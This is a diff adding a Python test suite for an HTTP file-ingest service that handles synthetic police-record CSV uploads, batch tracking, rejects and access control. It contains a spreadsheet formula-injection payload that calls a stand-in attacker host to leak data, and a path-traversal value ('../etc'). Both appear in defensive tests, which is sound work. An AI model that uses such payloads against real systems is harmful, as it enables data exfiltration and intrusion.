@@ -1,0 +1,217 @@
+"""Uploading files over HTTP and following their batches, as a connector and an analyst see it."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import AsyncIterator
+
+import httpx
+import pytest
+from asgi_lifespan import LifespanManager
+from fastapi import FastAPI
+from precise_ingest.adapters.pnc import HEADER
+from precise_ingest.service import service
+from precise_ingest.testing import finished_batch, published, runtime_of, upload
+
+from precise_chassis.app import create_app
+from precise_chassis.auth.dev_issuer import issue_dev_token
+from precise_chassis.auth.roles import Role
+from precise_chassis.runtime import Platform
+from precise_chassis.settings import PlatformSettings
+from precise_contracts.registry import REGISTRY
+
+
+async def test_a_synthetic_pnc_file_is_accepted_then_completed_with_an_event_per_nominal(
+    app: FastAPI, client: httpx.AsyncClient, writer: dict[str, str], nominals: bytes
+) -> None:
+    rows = len(list(csv.reader(io.StringIO(nominals.decode())))) - 1
+
+    answer = await upload(client, writer, nominals)
+
+    assert answer.status_code == 202, answer.text
+    batch_id = answer.json()["batch_id"]
+    assert answer.headers["location"] == f"/ingest/v1/batches/{batch_id}"
+    batch = await finished_batch(client, batch_id, writer)
+    assert batch["status"] == "completed"
+    assert batch["counts"] == {"read": rows, "accepted": rows, "rejected": 0, "duplicate": 0}
+    events = await published(runtime_of(app))
+    assert len(events) == rows
+    assert {event["source"]["record_id"] for event in events} == {
+        row[0] for row in list(csv.reader(io.StringIO(nominals.decode())))[1:]
+    }
+    assert not any(event["is_update"] for event in events)
+
+
+def _rows(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode())))
+
+
+def _csv(rows: list[list[str]]) -> bytes:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\r\n").writerows(rows)
+    return out.getvalue().encode()
+
+
+async def test_bad_rows_are_rejected_with_line_field_reason_and_bytes_and_the_rest_accepted(
+    app: FastAPI, client: httpx.AsyncClient, writer: dict[str, str], analyst: dict[str, str], nominals: bytes
+) -> None:
+    header, *rows = _rows(nominals)
+    good_pnc = rows[2][1]
+    wrong_letter = "Z" if good_pnc[-1] != "Z" else "Y"
+    rows[2][1] = good_pnc[:-1] + wrong_letter
+    rows[5][HEADER.index("sex")] = "X"
+    content = _csv([header, *rows])
+
+    batch_id = (await upload(client, writer, content)).json()["batch_id"]
+    batch = await finished_batch(client, batch_id, writer)
+
+    assert batch["status"] == "completed"
+    assert batch["counts"] == {"read": len(rows), "accepted": len(rows) - 2, "rejected": 2, "duplicate": 0}
+    assert len(await published(runtime_of(app))) == len(rows) - 2
+    rejects = (await client.get(f"/ingest/v1/batches/{batch_id}/rejects", headers=analyst)).json()
+    assert [(r["line"], r["field"]) for r in rejects] == [(4, "pnc_id"), (7, "sex")]
+    assert f"needs {good_pnc[-1]}" in rejects[0]["reason"]
+    assert rejects[0]["original"] == _csv([rows[2]]).decode()
+    assert "'X' is not M, F or U" in rejects[1]["reason"]
+
+
+async def test_the_same_file_again_is_all_duplicates_and_publishes_nothing(
+    app: FastAPI, client: httpx.AsyncClient, writer: dict[str, str], nominals: bytes
+) -> None:
+    first = await finished_batch(client, (await upload(client, writer, nominals)).json()["batch_id"], writer)
+    before = len(await published(runtime_of(app)))
+
+    again = await finished_batch(client, (await upload(client, writer, nominals)).json()["batch_id"], writer)
+
+    read = first["counts"]["read"]
+    assert again["counts"] == {"read": read, "accepted": 0, "rejected": 0, "duplicate": read}
+    assert len(await published(runtime_of(app))) == before == read
+
+
+async def test_a_changed_record_with_the_same_id_is_published_as_an_update(
+    app: FastAPI, client: httpx.AsyncClient, writer: dict[str, str], nominals: bytes
+) -> None:
+    header, *rows = _rows(nominals)
+    await finished_batch(client, (await upload(client, writer, nominals)).json()["batch_id"], writer)
+    rows[0][HEADER.index("forenames")] = "CHANGED NAME"
+
+    batch = await finished_batch(
+        client, (await upload(client, writer, _csv([header, *rows]))).json()["batch_id"], writer
+    )
+
+    assert batch["counts"] == {"read": len(rows), "accepted": 1, "rejected": 0, "duplicate": len(rows) - 1}
+    latest = (await published(runtime_of(app)))[-1]
+    assert latest["source"]["record_id"] == rows[0][0]
+    assert latest["is_update"] is True
+    assert latest["names"][0]["forenames"] == ["CHANGED", "NAME"]
+    first = next(e for e in await published(runtime_of(app)) if e["source"]["record_id"] == rows[0][0])
+    assert first["source"]["content_hash"] != latest["source"]["content_hash"]
+
+
+async def test_a_file_that_is_not_a_pnc_export_fails_its_batch_with_the_reason(
+    client: httpx.AsyncClient, writer: dict[str, str]
+) -> None:
+    answer = await upload(client, writer, b"vrm,camera,time\r\nAB12CDE,CAM1,2024-03-18T07:41:05Z\r\n")
+
+    batch = await finished_batch(client, answer.json()["batch_id"], writer)
+
+    assert batch["status"] == "failed"
+    assert "not a PNC nominal export" in batch["failure_reason"]
+    assert batch["counts"]["read"] == 0
+
+
+async def test_rejects_download_as_csv_neutralises_formulas(
+    client: httpx.AsyncClient, writer: dict[str, str], analyst: dict[str, str], nominals: bytes
+) -> None:
+    header, *rows = _rows(nominals)
+    rows[0][HEADER.index("recorded_date")] = "not a date"
+    # written by hand: the formula is the row's first, unquoted cell, as a hostile export would have it
+    row = b'=HYPERLINK("http://attacker.invalid/?leak"),' + _csv([rows[0][1:]])
+    batch_id = (await upload(client, writer, _csv([header]) + row)).json()["batch_id"]
+    await finished_batch(client, batch_id, writer)
+
+    answer = await client.get(f"/ingest/v1/batches/{batch_id}/rejects", params={"format": "csv"}, headers=analyst)
+
+    assert answer.status_code == 200
+    assert answer.headers["content-type"].startswith("text/csv")
+    assert "attachment" in answer.headers["content-disposition"]
+    (titles, reject) = list(csv.reader(io.StringIO(answer.text)))
+    assert titles == ["line", "field", "reason", "original"]
+    assert reject[:2] == ["2", "recorded_date"]
+    assert reject[3].startswith("'=HYPERLINK(")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in reject)
+
+
+async def test_who_may_upload_follow_and_read_rejects(
+    client: httpx.AsyncClient,
+    settings: PlatformSettings,
+    writer: dict[str, str],
+    analyst: dict[str, str],
+    nominals: bytes,
+) -> None:
+    assert (await upload(client, {}, nominals)).status_code == 401
+    assert (await upload(client, analyst, nominals)).status_code == 403
+    batch_id = (await upload(client, writer, nominals)).json()["batch_id"]
+    status = f"/ingest/v1/batches/{batch_id}"
+
+    assert (await client.get(status)).status_code == 401
+    assert (await client.get(status, headers=writer)).status_code == 200  # the sender follows its batch
+    assert (await client.get(status, headers=analyst)).status_code == 200
+    call_handler = {"Authorization": f"Bearer {issue_dev_token(settings, roles=[Role.CALL_HANDLER], sub='CH1')}"}
+    assert (await client.get(status, headers=call_handler)).status_code == 403
+    assert (
+        await client.get(f"{status}/rejects", headers=writer | {"Precise-Purpose": analyst["Precise-Purpose"]})
+    ).status_code == 403
+    no_purpose = {"Authorization": analyst["Authorization"]}
+    missing = await client.get(f"{status}/rejects", headers=no_purpose)
+    assert missing.status_code == 400
+    assert "Precise-Purpose" in missing.text
+    assert (await client.get(f"{status}/rejects", headers=analyst)).status_code == 200
+
+
+async def test_an_unknown_source_or_batch_is_404(client: httpx.AsyncClient, writer: dict[str, str]) -> None:
+    answer = await upload(client, writer, b"x", source="teletext")
+    assert answer.status_code == 404
+    assert "pnc" in answer.json()["detail"]
+    assert (await client.get("/ingest/v1/batches/nope", headers=writer)).status_code == 404
+
+
+async def test_a_legacy_upload_needs_a_mapping_name(client: httpx.AsyncClient, writer: dict[str, str]) -> None:
+    answer = await upload(client, writer, b"a,b\r\n", source="legacy")
+    assert answer.status_code == 422
+    assert "mapping" in answer.json()["detail"]
+    bad = await upload(client, writer, b"a,b\r\n", source="legacy", params={"mapping": "../etc"})
+    assert bad.status_code == 422
+
+
+async def test_an_upload_beyond_the_limit_gets_413_by_its_length_or_while_streaming(
+    settings: PlatformSettings, monkeypatch: pytest.MonkeyPatch, writer: dict[str, str]
+) -> None:
+    monkeypatch.setenv("PRECISE_INGEST_MAX_UPLOAD_BYTES", "1000")
+    application = create_app(Platform(settings, [service], REGISTRY))
+    async with (
+        LifespanManager(application),
+        httpx.AsyncClient(transport=httpx.ASGITransport(app=application), base_url="http://precise") as client,
+    ):
+        declared = await upload(client, writer, b"x" * 5000)
+        assert declared.status_code == 413
+
+        boundary = "precise-boundary"
+        head = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\n').encode()
+
+        async def body() -> AsyncIterator[bytes]:  # no Content-Length: only counting can catch it
+            yield head
+            for _ in range(10):
+                yield b"y" * 500
+            yield f"\r\n--{boundary}--\r\n".encode()
+
+        streamed = await client.post(
+            "/ingest/v1/pnc/files",
+            content=body(),
+            headers=writer | {"Content-Type": f"multipart/form-data; boundary={boundary}"},
+        )
+        assert streamed.status_code == 413
+        assert "1000 bytes" in streamed.json()["detail"]
+        small = await upload(client, writer, b"z" * 100)
+        assert small.status_code == 202
